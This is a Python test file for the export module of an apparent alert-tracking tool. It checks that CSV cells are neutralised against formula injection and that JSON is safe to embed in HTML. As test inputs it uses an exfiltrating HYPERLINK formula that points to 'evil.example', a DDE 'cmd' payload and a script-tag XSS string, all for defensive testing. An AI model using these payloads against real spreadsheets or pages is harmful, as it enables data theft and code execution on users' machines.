"""Safe exports: formula injection neutralised in every column, JSON safe to embed."""

from __future__ import annotations

import csv
import io
import json

import pytest

from alerts.base import Alert
from web.export import (
    CSV_FIELDS,
    MAX_CELL_CHARS,
    alerts_to_csv,
    alerts_to_jsonl,
    neutralise_cell,
    safe_json_dumps,
)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def alert(n: int, **overrides: object) -> Alert:
    data: dict[str, object] = {
        "id": f"a{n}",
        "listing_key": f"bazaar:{n}",
        "source": "bazaar",
        "rule": "score-threshold",
        "score": 0.75,
        "commodity": "ivory",
        "intent": "sell",
        "created_at": "2024-01-01T00:00:00Z",
        "updated_at": "2024-01-01T00:00:00Z",
        "seller_id": "s1",
        "title": f"item {n}",
    }
    data.update(overrides)
    return Alert(**data)  # type: ignore[arg-type]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "  =", " @"])
def test_neutralise_cell_prefixes_formula_triggers(prefix: str) -> None:
    value = prefix + "SUM(A1:A9)"
    assert neutralise_cell(value) == "'" + value


def test_neutralise_cell_leaves_plain_values_and_numbers() -> None:
    assert neutralise_cell("ivory bangle") == "ivory bangle"
    assert neutralise_cell(None) == ""
    assert neutralise_cell(-1.5) == -1.5
    assert neutralise_cell("a\x00b") == "ab"
    assert len(str(neutralise_cell("x" * 10_000))) == MAX_CELL_CHARS


def test_csv_neutralises_every_text_column() -> None:
    hostile = alert(
        1,
        id=HOSTILE,
        listing_key="+cmd",
        source="-2+3",
        rule="@SUM(1)",
        commodity="=1",
        intent="sell",
        seller_id="\t=cmd|' /C calc'!A0",
        title=HOSTILE,
    )
    rows = list(csv.reader(io.StringIO(alerts_to_csv([hostile, alert(2)]))))
    assert tuple(rows[0]) == CSV_FIELDS
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][CSV_FIELDS.index("title")] == "'" + HOSTILE
    assert rows[2][CSV_FIELDS.index("title")] == "item 2"
    assert rows[1][CSV_FIELDS.index("score")] == "0.75"


def test_csv_and_jsonl_are_capped() -> None:
    many = (alert(n) for n in range(50))
    assert len(list(csv.reader(io.StringIO(alerts_to_csv(many, max_rows=7))))) == 8
    assert len(alerts_to_jsonl((alert(n) for n in range(50)), max_rows=5).splitlines()) == 5


def test_safe_json_is_readable_valid_and_embeddable() -> None:
    value = {"t": "象牙 </script><script>alert(1)</script> & \u2028 \ud800 =1"}
    text = safe_json_dumps(value)
    assert "象牙" in text
    for bad in ("<", ">", "&", "\u2028", "\ud800"):
        assert bad not in text
    decoded = json.loads(text)["t"]
    assert decoded.startswith("象牙 </script><script>alert(1)</script> & \u2028 ")
    assert decoded.endswith("\ufffd =1")
    text.encode("utf-8")  # must not raise on lone surrogates


def test_jsonl_round_trips_alerts() -> None:
    lines = alerts_to_jsonl([alert(1, title=HOSTILE), alert(2)]).splitlines()
    assert [Alert.from_dict(json.loads(line)) for line in lines] == [
        alert(1, title=HOSTILE),
        alert(2),
    ]
